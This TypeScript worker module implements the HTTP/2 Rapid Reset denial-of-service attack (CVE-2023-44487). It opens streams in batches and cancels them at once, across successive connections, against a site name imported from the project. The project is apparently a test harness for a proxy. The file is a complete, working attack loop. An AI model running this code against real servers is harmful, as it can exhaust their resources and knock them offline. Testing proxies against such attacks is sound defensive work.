import { type ClientHttp2Stream, constants } from 'node:http2'
import { parentPort, workerData } from 'node:worker_threads'
import { openHttp2 } from './connect-to-proxy.ts'
import { SITE_NAME } from './host-names.ts'

const STREAMS_PER_ROUND = 20

interface Attack {
  readonly httpsPort: number
  /** Source address. */
  readonly from: string
  readonly durationMs: number
  /** On a busy machine the attack lasts longer, until it has opened so many. */
  readonly minStreams: number
}

/**
 * Rapid reset (CVE-2023-44487) in a worker thread: opens streams and resets them immediately, on successive
 * connections. Posts the number of streams.
 */
// oxlint-disable-next-line unicorn/require-post-message-target-origin -- The port of a worker has no origin.
parentPort?.postMessage(await resetRapidly(workerData as Attack))

async function resetRapidly(attack: Attack): Promise<number> {
  const end = performance.now() + attack.durationMs
  let opened = 0
  while (performance.now() < end || opened < attack.minStreams)
    opened += await resetOnOneConnection(attack, end, attack.minStreams - opened)
  return opened
}

async function resetOnOneConnection(attack: Attack, end: number, minStreams: number): Promise<number> {
  const session = openHttp2(attack, { from: attack.from })
  let opened = 0
  const isOver = () =>
    (performance.now() > end && opened >= minStreams) || session.destroyed || session.closed
  await new Promise((resolve) => session.once('connect', resolve).once('close', resolve))
  while (!isOver()) {
    const some: ClientHttp2Stream[] = []
    for (let stream = 0; stream < STREAMS_PER_ROUND && !isOver(); stream++)
      some.push(session.request({ ':path': '/about-us', ':authority': SITE_NAME }).on('error', () => {}))
    opened += some.length
    // Half of the streams are reset after they were sent, when the proxy may have forwarded them.
    if (opened % (2 * STREAMS_PER_ROUND) === 0) await new Promise((resolve) => setImmediate(resolve))
    for (const stream of some) stream.close(constants.NGHTTP2_CANCEL)
    await new Promise((resolve) => setImmediate(resolve))
  }
  session.destroy()
  return opened
}
